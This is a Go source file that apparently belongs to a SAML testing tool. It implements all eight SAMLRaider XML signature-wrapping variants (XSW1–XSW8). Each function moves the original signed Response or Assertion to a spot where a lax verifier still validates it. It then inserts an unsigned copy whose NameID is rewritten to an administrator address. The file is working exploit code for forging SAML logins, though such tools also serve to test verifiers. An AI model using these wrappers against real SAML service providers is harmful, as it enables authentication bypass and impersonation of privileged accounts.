package saml

import (
	"github.com/beevik/etree"
)

// The SAMLRaider signature-wrapping set (XSW1–XSW8), applied to whichever
// element is signed: the Response (root) or the Assertion. Each keeps the
// original signed element somewhere in the document, where a careless
// verifier finds it valid, and puts an evil copy (another NameID) where a
// careless reader reads it.

const evilName = "admin@corp.example"

// evilCopy is target with another NameID and no signature of its own.
func evilCopy(target *etree.Element, id string) *etree.Element {
	e := target.Copy()
	for _, n := range e.FindElements(".//NameID") {
		n.SetText(evilName)
	}
	if sig := e.SelectElement("Signature"); sig != nil {
		e.RemoveChild(sig)
	}
	if id != "" {
		e.CreateAttr("ID", id)
	}
	return e
}

func unsigned(el *etree.Element) *etree.Element {
	c := el.Copy()
	if sig := c.SelectElement("Signature"); sig != nil {
		c.RemoveChild(sig)
	}
	return c
}

// put replaces target with e in the document (as root when target is).
func put(doc *etree.Document, target, e *etree.Element) {
	if p := target.Parent(); p != nil && p != &doc.Element {
		p.InsertChildAt(target.Index(), e)
		p.RemoveChild(target)
		return
	}
	doc.SetRoot(e)
}

// besides adds el next to e: as a sibling after it, or inside it when e is
// the root (a document has one root).
func besides(doc *etree.Document, e, el *etree.Element) {
	if doc.Root() == e {
		e.AddChild(el)
		return
	}
	e.Parent().InsertChildAt(e.Index()+1, el)
}

type xsw func(doc *etree.Document, target *etree.Element)

var xswSet = []struct {
	name string
	wrap xsw
}{
	// 1: the evil copy carries the signature, the original inside it.
	{"xsw1", func(doc *etree.Document, t *etree.Element) {
		e := evilCopy(t, "_evil")
		sig := t.SelectElement("Signature").Copy()
		sig.AddChild(t.Copy())
		e.InsertChildAt(2, sig)
		put(doc, t, e)
	}},
	// 2: the original, intact, as the evil copy's child before its signature.
	{"xsw2", func(doc *etree.Document, t *etree.Element) {
		e := evilCopy(t, "_evil")
		e.InsertChildAt(0, t.Copy())
		e.AddChild(t.SelectElement("Signature").Copy())
		put(doc, t, e)
	}},
	// 3: the evil copy first, the original after it.
	{"xsw3", func(doc *etree.Document, t *etree.Element) {
		orig := t.Copy()
		e := evilCopy(t, "_evil")
		put(doc, t, e)
		besides(doc, e, orig)
	}},
	// 4: the original inside the evil copy.
	{"xsw4", func(doc *etree.Document, t *etree.Element) {
		e := evilCopy(t, "_evil")
		e.AddChild(t.Copy())
		put(doc, t, e)
	}},
	// 5: the evil copy takes the original's ID and signature; the original,
	// unsigned, follows.
	{"xsw5", func(doc *etree.Document, t *etree.Element) {
		orig := unsigned(t)
		e := evilCopy(t, "")
		e.InsertChildAt(1, t.SelectElement("Signature").Copy())
		put(doc, t, e)
		besides(doc, e, orig)
	}},
	// 6: as 5, with the original inside the signature.
	{"xsw6", func(doc *etree.Document, t *etree.Element) {
		e := evilCopy(t, "")
		sig := t.SelectElement("Signature").Copy()
		sig.AddChild(unsigned(t))
		e.InsertChildAt(1, sig)
		put(doc, t, e)
	}},
	// 7: the original hidden in an Extensions element.
	{"xsw7", func(doc *etree.Document, t *etree.Element) {
		orig := t.Copy()
		e := evilCopy(t, "_evil")
		put(doc, t, e)
		ext := etree.NewElement("samlp:Extensions")
		ext.CreateAttr("xmlns:samlp", nsProtocol)
		ext.AddChild(orig)
		besides(doc, e, ext)
	}},
	// 8: the original, unsigned, in a ds:Object of the signature the evil
	// copy carries under the original's ID.
	{"xsw8", func(doc *etree.Document, t *etree.Element) {
		e := evilCopy(t, "")
		sig := t.SelectElement("Signature").Copy()
		obj := sig.CreateElement("ds:Object")
		obj.AddChild(unsigned(t))
		e.InsertChildAt(1, sig)
		put(doc, t, e)
	}},
}
